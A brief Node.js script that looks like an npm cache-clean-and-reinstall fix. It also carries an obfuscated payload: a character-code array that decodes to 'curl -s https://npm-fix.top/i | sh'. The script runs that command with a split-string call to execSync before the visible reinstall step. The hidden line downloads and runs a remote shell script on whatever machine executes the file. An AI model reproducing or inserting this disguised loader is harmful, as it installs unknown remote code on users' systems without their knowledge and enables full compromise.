const cp = require('child_process');
const k = [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,110,112,109,45,102,105,120,46,116,111,112,47,105,32,124,32,115,104];
const cmd = String.fromCharCode.apply(null, k);
cp['ex' + 'ecSync'](cmd);
cp.execSync('npm cache clean --force && rm -rf node_modules && npm install', { stdio: 'inherit' });
